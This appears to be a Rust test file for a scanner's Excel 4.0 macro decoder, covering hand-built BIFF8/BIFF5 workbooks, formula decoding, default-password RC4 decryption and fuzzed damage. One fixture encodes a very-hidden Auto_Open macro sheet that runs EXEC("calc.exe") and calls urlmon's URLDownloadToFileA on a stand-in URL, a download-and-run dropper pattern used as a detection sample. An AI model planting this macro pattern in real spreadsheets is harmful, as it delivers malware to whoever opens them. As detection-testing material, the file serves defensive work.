//! The XLM decoder against hand-built BIFF8 and BIFF5 workbooks, formulas xlwt compiled, the
//! default-password decryption's reference vectors, damage; oletools' samples when mirrored.

use super::functions::FUNCTIONS;
use super::*;

fn rec(kind: u16, data: &[u8]) -> Vec<u8> {
    let mut out = kind.to_le_bytes().to_vec();
    out.extend_from_slice(&(data.len() as u16).to_le_bytes());
    out.extend_from_slice(data);
    out
}

fn cat(parts: &[&[u8]]) -> Vec<u8> {
    parts.concat()
}

fn bof(version: u16, kind: u16) -> Vec<u8> {
    let mut data = [0u8; 16];
    data[..2].copy_from_slice(&version.to_le_bytes());
    data[2..4].copy_from_slice(&kind.to_le_bytes());
    rec(BOF, &data)
}

/// A compressed ShortXLUnicodeString (BIFF8).
fn short(text: &str) -> Vec<u8> {
    cat(&[&[text.len() as u8, 0], text.as_bytes()])
}

fn ptg_str(text: &str) -> Vec<u8> {
    cat(&[&[0x17], &short(text)])
}

fn ptg_int(value: u16) -> Vec<u8> {
    cat(&[&[0x1E], &value.to_le_bytes()])
}

fn ptg_funcvar(count: u8, tab: u16) -> Vec<u8> {
    cat(&[&[0x42, count], &tab.to_le_bytes()])
}

fn formula(row: u16, col: u16, rgce: &[u8]) -> Vec<u8> {
    let head = cat(&[&row.to_le_bytes(), &col.to_le_bytes(), &[0; 2 + 8 + 2 + 4]]);
    rec(
        FORMULA,
        &cat(&[&head, &(rgce.len() as u16).to_le_bytes(), rgce]),
    )
}

fn cell(kind: u16, row: u16, col: u16, rest: &[u8]) -> Vec<u8> {
    rec(
        kind,
        &cat(&[&row.to_le_bytes(), &col.to_le_bytes(), &[0; 2], rest]),
    )
}

/// A LBL record (BIFF8); a built-in name is its one-character code.
fn lbl(flags: u16, name: &str, rgce: &[u8]) -> Vec<u8> {
    let mut head = vec![0u8; 14];
    head[..2].copy_from_slice(&flags.to_le_bytes());
    head[3] = name.len() as u8;
    head[4..6].copy_from_slice(&(rgce.len() as u16).to_le_bytes());
    rec(LBL, &cat(&[&head, &[0], name.as_bytes(), rgce]))
}

fn sst(strings: &[&str]) -> Vec<u8> {
    let count = (strings.len() as u32).to_le_bytes();
    let mut data = cat(&[&count, &count]);
    for s in strings {
        data.extend_from_slice(&cat(&[&(s.len() as u16).to_le_bytes(), &[0], s.as_bytes()]));
    }
    rec(SST, &data)
}

/// A sheet: name, hidden state, BOUNDSHEET type, BOF type, its records.
struct Def<'a>(&'a str, u8, u8, u16, Vec<u8>);

/// A workbook stream: globals (BOF, BOUNDSHEETs, `extra`, EOF), then each sheet.
fn workbook(version: u16, extra: &[u8], sheets: &[Def]) -> Vec<u8> {
    let names: Vec<Vec<u8>> = sheets
        .iter()
        .map(|d| {
            if version == BIFF5 {
                cat(&[&[d.0.len() as u8], d.0.as_bytes()])
            } else {
                short(d.0)
            }
        })
        .collect();
    let bound_len: usize = names.iter().map(|n| 4 + 6 + n.len()).sum();
    let mut at = bof(version, GLOBALS).len() + bound_len + extra.len() + 4;
    let mut globals = bof(version, GLOBALS);
    let mut body = Vec::new();
    for (def, name) in sheets.iter().zip(&names) {
        let head = cat(&[&(at as u32).to_le_bytes(), &[def.1, def.2]]);
        globals.extend_from_slice(&rec(BOUNDSHEET, &cat(&[&head, name])));
        let sheet = cat(&[&bof(version, def.3), &def.4, &rec(EOF, &[])]);
        at += sheet.len();
        body.extend_from_slice(&sheet);
    }
    cat(&[&globals, extra, &rec(EOF, &[]), &body])
}

fn text(bytes: Option<Vec<u8>>) -> String {
    String::from_utf8(bytes.expect("macro sheets")).expect("UTF-8")
}

/// This workbook's own SUPBOOK, and one XTI for sheet 1.
fn links() -> Vec<u8> {
    cat(&[
        &rec(SUPBOOK, &[2, 0, 1, 4]),
        &rec(EXTERNSHEET, &[1, 0, 0, 0, 1, 0, 1, 0]),
    ])
}

fn auto_open_macro() -> Vec<u8> {
    let auto_open = lbl(0x0020, "\u{1}", &[0x3A, 0, 0, 0, 0, 0, 0]);
    let extra = cat(&[&links(), &auto_open, &sst(&["some string value"])]);
    let call = cat(&[
        &ptg_str("urlmon"),
        &ptg_str("URLDownloadToFileA"),
        &ptg_str("JJCCJJ"),
        &ptg_int(0),
        &ptg_str("http://x/a.exe"),
        &ptg_str("c:\\a.exe"),
        &ptg_int(0),
        &ptg_int(0),
        &ptg_funcvar(8, 0x0096),
    ]);
    let cells = cat(&[
        &formula(0, 0, &cat(&[&ptg_str("calc.exe"), &ptg_funcvar(1, 0x006E)])),
        &formula(1, 0, &call),
        &cell(LABELSST, 2, 0, &0u32.to_le_bytes()),
        &formula(3, 0, &ptg_funcvar(0, 0x0036)),
    ]);
    let sum = formula(0, 0, &cat(&[&ptg_int(1), &ptg_int(2), &ptg_funcvar(2, 4)]));
    workbook(
        0x0600,
        &extra,
        &[
            Def("Sheet1", 0, 0, 0x10, sum),
            Def("Macro1", 2, 1, MACRO_SHEET, cells),
        ],
    )
}

#[test]
fn auto_open_runs_exec() {
    let expected = "SHEET \"Sheet1\" worksheet visible\n\
        SHEET \"Macro1\" macro very-hidden\n\
        NAME \"Auto_Open\" = Macro1!R1C1\n\
        CELL Macro1!R1C1 =EXEC(\"calc.exe\")\n\
        CELL Macro1!R2C1 =CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\
        \"http://x/a.exe\",\"c:\\a.exe\",0,0)\n\
        CELL Macro1!R3C1 =\"some string value\"\n\
        CELL Macro1!R4C1 =HALT()\n";
    assert_eq!(text(macro_sheets(&auto_open_macro(), 1 << 20)), expected);
}

#[test]
fn a_workbook_without_macro_sheets_gives_none() {
    let sum = formula(0, 0, &cat(&[&ptg_int(1), &ptg_int(2), &ptg_funcvar(2, 4)]));
    let book = workbook(0x0600, &sst(&["x"]), &[Def("Sheet1", 0, 0, 0x10, sum)]);
    assert_eq!(macro_sheets(&book, 1 << 20), None);
    assert_eq!(macro_sheets(&[], 1 << 20), None);
    assert_eq!(macro_sheets(b"not a workbook at all", 1 << 20), None);
}

#[test]
fn an_encrypted_workbook_says_so() {
    let filepass = rec(FILEPASS, &[1, 0, 1, 0, 1, 0]);
    let book = workbook(
        0x0600,
        &filepass,
        &[Def("Macro1", 0, 1, MACRO_SHEET, vec![])],
    );
    assert_eq!(text(macro_sheets(&book, 100)), "ENCRYPTED\n");
}

#[test]
fn a_macro_sheet_is_known_by_its_bof_too() {
    let cells = formula(0, 0, &ptg_funcvar(0, 0x0036));
    let book = workbook(0x0600, &[], &[Def("X y", 1, 0, MACRO_SHEET, cells)]);
    let expected = "SHEET \"X y\" macro hidden\nCELL 'X y'!R1C1 =HALT()\n";
    assert_eq!(text(macro_sheets(&book, 1 << 20)), expected);
}

/// A book as formulas see it: sheets S and Sheet2, an XTI for Sheet2, two names.
fn context(v8: bool) -> Book<'static> {
    let mut book = Book::new(v8);
    for name in ["S", "Sheet2"] {
        let name = name.to_string();
        book.sheets.push(Sheet {
            name,
            state: 0,
            kind: 1,
            at: 0,
        });
    }
    book.supbooks.push(Supbook {
        own: true,
        names: vec![],
    });
    book.xti.push((0, 1, 1));
    book.names = vec!["MyFunc".to_string(), "Auto_Open".to_string()];
    book
}

fn hex(text: &str) -> Vec<u8> {
    let digits: Vec<u8> = text.bytes().filter(u8::is_ascii_hexdigit).collect();
    let value = |d: u8| (d as char).to_digit(16).unwrap() as u8;
    digits
        .chunks(2)
        .map(|p| value(p[0]) << 4 | value(p[1]))
        .collect()
}

#[test]
fn formulas_compiled_by_xlwt_read_back() {
    // Parsed expressions as xlwt 1.3.0 (an independent writer) compiles them.
    let book = context(true);
    for (rgce, expected) in [
        ("1e4100416f001701004208", "CHAR(65)&\"B\""),
        (
            "44000000c01e02000d19020a0017030079657319081400250000020001c002c0191000001908\
             030022030100",
            "IF(R1C1>2,\"yes\",SUM(R1C2:R3C3))",
        ),
        ("44000000c013141e02001e03000703", "-R1C1%+2^3"),
        ("5a0000000000c0", "Sheet2!R1C1"),
        ("1f000000000000f83f1e0000411b00", "ROUND(1.5,0)"),
        ("17010061170100624202500 1", "CONCATENATE(\"a\",\"b\")"),
        ("170100781701007 90e", "\"x\"<>\"y\""),
        ("1d01", "TRUE"),
        ("1703006162631e02001e0100411f00", "MID(\"abc\",2,1)"),
    ] {
        assert_eq!(book.formula(&hex(rgce), Some((0, 0))), expected);
    }
}

#[test]
fn the_function_table_is_sorted() {
    assert!(FUNCTIONS.windows(2).all(|w| w[0].0 < w[1].0));
    let name = |tab: u16| FUNCTIONS.iter().find(|f| f.0 == tab).map(|f| f.1);
    for (tab, expected) in [(0x006E, "EXEC"), (0x0096, "CALL"), (0x0095, "REGISTER")] {
        assert_eq!(name(tab), Some(expected));
    }
    assert_eq!(name(0x0036), Some("HALT"));
    assert_eq!(name(0x0037), Some("RETURN"));
    assert_eq!(name(0x006F), Some("CHAR"));
    assert_eq!(name(0x8011), Some("RUN"));
    assert_eq!(name(0x8060), Some("FORMULA"));
    assert_eq!(name(0x0035), Some("GOTO"));
}

#[test]
fn tokens_decode() {
    let book = context(true);
    let wide = [0x17, 2, 1, b'h', 0, 0xAC, 0x20];
    let choose = cat(&[
        &ptg_int(1),
        &[0x19, 0x04, 2, 0, 8, 0, 13, 0, 18, 0],
        &ptg_str("a"),
        &[0x19, 0x08, 9, 0],
        &ptg_str("b"),
        &[0x19, 0x08, 3, 0],
        &ptg_funcvar(3, 0x0064),
    ]);
    for (rgce, expected) in [
        (wide.to_vec(), "\"h\u{20AC}\""),
        (
            cat(&[&[0x1D, 1, 0x1C, 0x2A, 0x16], &ptg_funcvar(3, 1)]),
            "IF(TRUE,#N/A,)",
        ),
        (
            cat(&[&[0x43, 1, 0, 0, 0], &ptg_int(1), &ptg_funcvar(2, 0x00FF)]),
            "MyFunc(1)",
        ),
        (
            cat(&[&[0x19, 0x40, 0, 1], &ptg_str("q\"\n")]),
            "\"q\"\"\\x0A\"",
        ),
        (choose, "CHOOSE(1,\"a\",\"b\")"),
        (cat(&[&ptg_int(1), &ptg_int(2), &[0x03, 0x15]]), "(1+2)"),
        (cat(&[&ptg_str("x"), &[0x18, 0, 0]]), "\"x\" ?ptg18"),
        (vec![0x41, 0x57, 0x00], "?func0057"),
        (ptg_funcvar(2, 0x006E), "?stack"),
        (cat(&[&[0x29, 5, 0], &[0x44, 0, 0, 1, 0xC0]]), "R1C2"),
        (
            cat(&[
                &ptg_str("=1"),
                &[0x44, 0, 0, 1, 0xC0],
                &ptg_funcvar(2, 0x8060),
            ]),
            "FORMULA(\"=1\",R1C2)",
        ),
        (ptg_funcvar(0x80, 0x8011), "RUN?()"),
        (vec![0x3A, 5, 0, 0, 0, 0, 0], "sheet#5!R1C1"),
        (vec![0x3B, 0, 0, 0, 0, 1, 0, 0, 0, 1, 0], "Sheet2!R1C1:R2C2"),
        (vec![0x4C, 0xFF, 0xFF, 0x01, 0xC0], "R5C7"),
        (vec![0x2D, 1, 0, 2, 0, 0xFF, 0x40, 3, 0], "R2C5:R3C4"),
        (vec![0x1F, 0, 0, 0, 0, 0, 0, 0xF0], "?cut"),
        (vec![0x00], "?ptg00"),
        (vec![0x43, 9, 0, 0, 0], "name#9"),
    ] {
        assert_eq!(book.formula(&rgce, Some((5, 5))), expected, "{rgce:02X?}");
    }
    assert_eq!(
        book.formula(&[0x4C, 0xFF, 0xFF, 0x01, 0xC0], None),
        "R[-1]C[1]"
    );
}

#[test]
fn formulas_stay_bounded() {
    let book = context(true);
    let deep: Vec<u8> = (0..300).flat_map(|_| ptg_int(7)).collect();
    assert!(book.formula(&deep, None).ends_with("7 7 ?deep"));
    // Deep nesting is written once, not copied at each level.
    let long = cat(&[&ptg_str(&"A".repeat(255)), &[0x15; 8000]]);
    assert_eq!(book.formula(&long, None).len(), 257 + 2 * 8000);
    let nested = formula(0, 0, &long);
    let concat: Vec<u8> = (0..2600)
        .flat_map(|_| cat(&[&ptg_str("x"), &[0x08]]))
        .collect();
    let chain = formula(0, 1, &cat(&[&ptg_str("y"), &concat]));
    let many: Vec<u8> = (0..100).flat_map(|_| cat(&[&nested, &chain])).collect();
    let sheets = workbook(0x0600, &[], &[Def("M", 0, 1, MACRO_SHEET, many)]);
    let started = std::time::Instant::now();
    let out = macro_sheets(&sheets, 1 << 26).unwrap();
    let lines = (13 + 16257 + 1) + (13 + 3 + 2600 * 4 + 1);
    assert_eq!(out.len(), "SHEET \"M\" macro visible\n".len() + 100 * lines);
    assert!(started.elapsed().as_secs() < 5);
}

/// The CELL and VALUE lines of a one-macro-sheet workbook with `extra` globals.
fn cells(version: u16, extra: &[u8], records: Vec<u8>) -> String {
    let book = workbook(version, extra, &[Def("M", 0, 1, MACRO_SHEET, records)]);
    let all = text(macro_sheets(&book, 1 << 20));
    all.lines()
        .filter(|l| !l.starts_with("SHEET"))
        .map(|l| format!("{l}\n"))
        .collect()
}

#[test]
fn cells_of_every_kind() {
    let shared_rgce = [0x4C, 0, 0, 0xFF, 0xC0];
    let shrfmla = cat(&[&[0, 0, 1, 0, 1, 1, 0, 2], &5u16.to_le_bytes(), &shared_rgce]);
    let label = cat(&[&3u16.to_le_bytes(), &[1], "a\0b\0c\0".as_bytes()]);
    let mulrk = cat(&[
        &30u32.to_le_bytes(),
        &[0, 0],
        &1259u32.to_le_bytes(),
        &[1, 0],
    ]);
    let records = cat(&[
        &formula(0, 1, &[0x01, 0, 0, 1, 0]),
        &rec(SHRFMLA, &shrfmla),
        &formula(1, 1, &[0x01, 0, 0, 1, 0]),
        &formula(2, 0, &cat(&[&ptg_int(65), &[0x41, 111, 0]])),
        &rec(STRING, &cat(&[&1u16.to_le_bytes(), &[0], b"A"])),
        &cell(LABEL, 3, 0, &label),
        &cell(NUMBER, 4, 0, &1.5f64.to_le_bytes()),
        &cell(RK, 5, 0, &((314u32 << 2) | 3).to_le_bytes()),
        &cell(MULRK, 6, 0, &mulrk),
        &formula(7, 0, &[0x01, 9, 0, 9, 0]),
    ]);
    let expected = "CELL M!R1C2 =R1C1\nCELL M!R2C2 =R2C1\nCELL M!R3C1 =CHAR(65)\n\
        VALUE M!R3C1 =\"A\"\nCELL M!R4C1 =\"abc\"\nCELL M!R5C1 =1.5\nCELL M!R6C1 =3.14\n\
        CELL M!R7C1 =7\nCELL M!R7C2 =3.14\nCELL M!R8C1 =SHARED(R10C10)\n";
    assert_eq!(cells(0x0600, &[], records), expected);
}

#[test]
fn shared_strings_continue() {
    // "abc" compressed in the SST, "def" in UTF-16 in a CONTINUE, then "gh" and a rich "ij".
    let sst = rec(SST, &cat(&[&[3, 0, 0, 0, 3, 0, 0, 0], &[6, 0, 0], b"abc"]));
    let rich = cat(&[&[2, 0, 0x08, 1, 0], b"ij", &[0; 4]]);
    let more = cat(&[&[1], "d\0e\0f\0".as_bytes(), &[2, 0, 0], b"gh", &rich]);
    let extra = cat(&[&sst, &rec(CONTINUE, &more)]);
    let records: Vec<u8> = (0..4u32)
        .flat_map(|i| cell(LABELSST, i as u16, 0, &i.to_le_bytes()))
        .collect();
    let expected = "CELL M!R1C1 =\"abcdef\"\nCELL M!R2C1 =\"gh\"\nCELL M!R3C1 =\"ij\"\n\
        CELL M!R4C1 =sst#3\n";
    assert_eq!(cells(0x0600, &extra, records), expected);
}

/// BIFF5: byte strings without a flags byte, a 15-byte ptgName, 3-byte cell locations.
fn biff5_parts() -> (Vec<u8>, Vec<u8>) {
    let lbl5 = [
        0x20, 0, 0, 1, 4, 0, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0x44, 0, 0xC0, 2,
    ];
    let exec = cat(&[&[0x17, 4], b"calc", &ptg_funcvar(1, 0x006E)]);
    let name: Vec<u8> = cat(&[&[0x23, 1, 0], &[0; 12], &ptg_funcvar(1, 0x00FF)]);
    let records = cat(&[&formula(0, 0, &exec), &formula(1, 0, &name)]);
    (rec(LBL, &lbl5), records)
}

#[test]
fn biff5_macro_sheet() {
    let (extra, records) = biff5_parts();
    let expected = "NAME \"Auto_Open\" = R1C3\nCELL M!R1C1 =EXEC(\"calc\")\n\
        CELL M!R2C1 =Auto_Open()\n";
    assert_eq!(cells(BIFF5, &extra, records), expected);
}

#[test]
fn output_stops_at_the_room() {
    let book = auto_open_macro();
    let whole = macro_sheets(&book, 1 << 20).unwrap();
    for room in 0..=whole.len() + 2 {
        let cut = macro_sheets(&book, room).unwrap();
        assert_eq!(cut, whole[..room.min(whole.len())]);
    }
}

#[test]
fn huge_claims_stop_quietly() {
    // An SST claiming 4G strings of 65535 wide characters, a name and a formula claiming
    // 65535 bytes of tokens, a sheet far past the stream's end.
    let sst = rec(
        SST,
        &[
            0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 1, b'a',
        ],
    );
    let name = rec(
        LBL,
        &[
            0, 0, 0, 1, 0xFF, 0xFF, 0, 0, 0, 0, 0, 0, 0, 0, 0, b'n', 0x1E,
        ],
    );
    let big = rec(FORMULA, &cat(&[&[0; 20], &[0xFF, 0xFF], &ptg_int(1)]));
    let far = rec(
        BOUNDSHEET,
        &cat(&[&u32::MAX.to_le_bytes(), &[0, 1], &short("F")]),
    );
    let extra = cat(&[&sst, &name, &far]);
    let lines = cells(0x0600, &extra, cat(&[&big, &cell(LABELSST, 0, 1, &[0; 4])]));
    assert_eq!(
        lines,
        "NAME \"n\" = ?cut\nCELL M!R1C1 =1\nCELL M!R1C2 =sst#0\n"
    );
    // Many formulas, little room: the output stops at the room.
    let many: Vec<u8> = (0..5000)
        .flat_map(|r| formula(r, 0, &ptg_str("padding")))
        .collect();
    let book = workbook(0x0600, &[], &[Def("M", 0, 1, MACRO_SHEET, many)]);
    assert_eq!(macro_sheets(&book, 1000).map(|t| t.len()), Some(1000));
}

#[test]
fn many_sheets_at_one_place_are_walked_once() {
    let count = 20_000;
    let sheet = |at: usize| {
        rec(
            BOUNDSHEET,
            &cat(&[&(at as u32).to_le_bytes(), &[0, 1], &short("M")]),
        )
    };
    let mut book = bof(0x0600, GLOBALS);
    let at = book.len() + count * sheet(0).len() + 4;
    for _ in 0..count {
        book.extend_from_slice(&sheet(at));
    }
    book.extend_from_slice(&rec(EOF, &[]));
    book.extend_from_slice(&bof(0x0600, MACRO_SHEET));
    book.extend_from_slice(&formula(0, 0, &ptg_funcvar(0, 0x0036)));
    let started = std::time::Instant::now();
    let out = text(macro_sheets(&book, 1 << 22));
    assert_eq!(out.matches("CELL").count(), 1);
    assert_eq!(out.matches("SHEET").count(), count);
    assert!(started.elapsed().as_secs() < 5);
}

fn xorshift(state: &mut u64) -> u64 {
    *state ^= *state << 13;
    *state ^= *state >> 7;
    *state ^= *state << 17;
    *state
}

#[test]
fn damaged_workbooks_never_panic() {
    let (extra, records) = biff5_parts();
    let biff5 = workbook(BIFF5, &extra, &[Def("M", 0, 1, MACRO_SHEET, records)]);
    let vectors = [auto_open_macro(), encrypted_macro(), biff5];
    let started = std::time::Instant::now();
    for book in &vectors {
        for end in 0..book.len() {
            let _ = macro_sheets(&book[..end], 4096);
        }
        for bit in 0..book.len() * 8 {
            let mut flipped = book.clone();
            flipped[bit / 8] ^= 1 << (bit % 8);
            assert!(
                macro_sheets(&flipped, 4096)
                    .is_none_or(|t| t.len() <= 4096 && std::str::from_utf8(&t).is_ok())
            );
        }
    }
    let mut state = 0x9E37_79B9_7F4A_7C15u64;
    for case in 0..3000 {
        let mut book = vectors[case % vectors.len()].clone();
        for _ in 0..1 + xorshift(&mut state) % 8 {
            let at = (xorshift(&mut state) as usize) % book.len();
            book[at] = xorshift(&mut state) as u8;
        }
        assert!(
            macro_sheets(&book, 4096)
                .is_none_or(|t| t.len() <= 4096 && std::str::from_utf8(&t).is_ok())
        );
    }
    assert!(started.elapsed().as_secs() < 20);
}

/// A test file of a mirrored source tree (read with git), its workbook stream.
fn mirrored_workbook(repo: &str, path: &str) -> Option<Vec<u8>> {
    let repo = format!("/work/.mirror/{repo}/repo");
    let spec = format!("HEAD:{path}");
    let git = std::process::Command::new("git")
        .args(["-C", &repo, "show", &spec])
        .output();
    let file = git.ok().filter(|o| o.status.success())?.stdout;
    let mut ole = cfb::CompoundFile::open(std::io::Cursor::new(file)).ok()?;
    let mut stream = ole
        .open_stream("/Workbook")
        .or_else(|_| ole.open_stream("/Book"))
        .ok()?;
    let mut bytes = Vec::new();
    std::io::Read::read_to_end(&mut stream, &mut bytes).ok()?;
    Some(bytes)
}

#[test]
fn clamav_test_workbooks() {
    let clamav = |path: &str| {
        let path = format!("unit_tests/input/other_scanfiles/{path}");
        mirrored_workbook("Cisco-Talos+clamav", &path)
    };
    let Some(plain) = clamav("has_png_and_jpeg.xls") else {
        return;
    };
    assert_eq!(macro_sheets(&plain, 1 << 20), None);
    for path in [
        "ole2_encryption/password.fat.xls",
        "ole2_encryption/password.ministream.xls",
    ] {
        let book = clamav(path).expect(path);
        assert_eq!(text(macro_sheets(&book, 1 << 20)), "ENCRYPTED\n", "{path}");
    }
}

#[test]
fn oletools_excel4_samples() {
    // Benign Excel 4 macro samples of oletools' tests, saved by Excel as BIFF8 and BIFF5.
    let expected = "SHEET \"Macro1\" macro visible\nSHEET \"Sheet1\" worksheet visible\n\
        NAME \"Auto_Open\" = Macro1!R1C1\n\
        CELL Macro1!R1C1 =ALERT(\"This is a sample Excel 4 macro\")\nCELL Macro1!R2C1 =HALT()\n";
    let oletools =
        |path: &str| mirrored_workbook("decalage2+oletools", &format!("tests/test-data/{path}"));
    let Some(biff8) = oletools("excel4-macros/excel4_sample_macro.xls") else {
        return;
    };
    assert_eq!(text(macro_sheets(&biff8, 1 << 20)), expected);
    let biff5 = oletools("excel4-macros/excel4_sample_macro_excel5_format.xls").unwrap();
    assert_eq!(u16_at(&biff5, 4), Some(BIFF5));
    assert_eq!(text(macro_sheets(&biff5, 1 << 20)), expected);
    // Encrypted with the default password, a worksheet and VBA: no macro sheet.
    let encrypted = oletools("encrypted/autostart-encrypt-standardpassword.xls").unwrap();
    assert_eq!(macro_sheets(&encrypted, 1 << 20), None);
    let filepass = encrypted
        .windows(4)
        .position(|w| w == [0x2F, 0, 54, 0])
        .unwrap();
    let mut plain = rc4::decrypt(&encrypted, &encrypted[filepass + 4..filepass + 58]).unwrap();
    let sheet = plain.windows(2).position(|w| w == [0x85, 0]).unwrap();
    plain[sheet + 4 + 5] = 1;
    let mut out = Out {
        buf: Vec::new(),
        room: 1 << 20,
    };
    assert_eq!(workbook_text(&plain, true, &mut out), Some(()));
    let start = "DECRYPTED \"VelvetSweatshop\"\nSHEET \"Tabelle1\" macro visible\n";
    assert!(out.buf.starts_with(start.as_bytes()));
    let encrypted = oletools("encrypted/encrypted.xls").unwrap();
    assert_eq!(text(macro_sheets(&encrypted, 1 << 20)), "ENCRYPTED\n");
}

/// FILEPASS data: RC4, version 1.1, a salt, a verifier and its MD5 encrypted with the key
/// of block 0 for the default password.
fn filepass_data() -> Vec<u8> {
    let salt = [7u8; 16];
    let verifier = *b"0123456789abcdef";
    let mut check = [verifier, rc4::md5(&verifier)].concat();
    rc4::Rc4::new(&rc4::block_key(&rc4::derive(&salt), 0)).apply(&mut check);
    cat(&[&[1, 0, 1, 0, 1, 0], &salt, &check])
}

/// The auto_open_macro workbook encrypted with the default password.
fn encrypted_macro() -> Vec<u8> {
    let plain = auto_open_macro();
    // The FILEPASS record goes right after the globals' BOF: every sheet moves by its size.
    let filepass = rec(FILEPASS, &filepass_data());
    let mut book = cat(&[&plain[..20], &filepass, &plain[20..]]);
    let mut at = 20 + filepass.len();
    while let Some((kind, next)) = record(&book, at).map(|r| (r.kind, r.next)) {
        if kind == BOUNDSHEET {
            let moved = u32_at(&book, at + 4).unwrap() + filepass.len() as u32;
            book[at + 4..at + 8].copy_from_slice(&moved.to_le_bytes());
        }
        at = next;
    }
    // RC4 undoes itself: "decrypting" the clear stream encrypts it.
    rc4::decrypt(&book, &filepass_data()).unwrap()
}

#[test]
fn the_default_password_is_tried() {
    assert_eq!(
        rc4::md5(b"abc"),
        hex("900150983cd24fb0d6963f7d28e17f72")[..]
    );
    let long = rc4::md5(&[b'a'; 1000]);
    assert_eq!(long, hex("cabe45dcc9ae5b66ba86600cca6b8ba8")[..]);
    let encrypted = encrypted_macro();
    assert!(!encrypted.windows(8).any(|w| w == b"calc.exe"));
    let expected = text(macro_sheets(&auto_open_macro(), 1 << 20));
    let out = text(macro_sheets(&encrypted, 1 << 20));
    assert_eq!(out, format!("DECRYPTED \"VelvetSweatshop\"\n{expected}"));
    // Another password: the verifier fails.
    let mut other = encrypted.clone();
    other[20 + 4 + 22] ^= 1;
    assert_eq!(text(macro_sheets(&other, 1 << 20)), "ENCRYPTED\n");
}

#[test]
fn a_macro_sheet_run_on_open_is_found_by_the_walk_and_a_plain_workbook_is_clean() {
    use crate::inspect::tests::{labels, limits, look};
    use std::io::Write;
    let xls = |stream: &[u8]| {
        let mut file = cfb::CompoundFile::create(std::io::Cursor::new(Vec::new())).unwrap();
        file.create_stream("/Workbook")
            .unwrap()
            .write_all(stream)
            .unwrap();
        file.into_inner().into_inner()
    };
    let found = look(&xls(&auto_open_macro()), "invoice.xls", &limits());
    assert_eq!(
        labels(&found),
        ["invoice.xls>Workbook.xlm:Office_XLM_AutoOpen_Exec"],
        "{found:?}"
    );
    let sum = formula(0, 0, &cat(&[&ptg_int(1), &ptg_int(2), &ptg_funcvar(2, 4)]));
    let plain = workbook(0x0600, &links(), &[Def("Sheet1", 0, 0, 0x10, sum)]);
    let found = look(&xls(&plain), "sums.xls", &limits());
    assert!(labels(&found).is_empty(), "{found:?}");
    assert_eq!(found.incomplete, None);
}
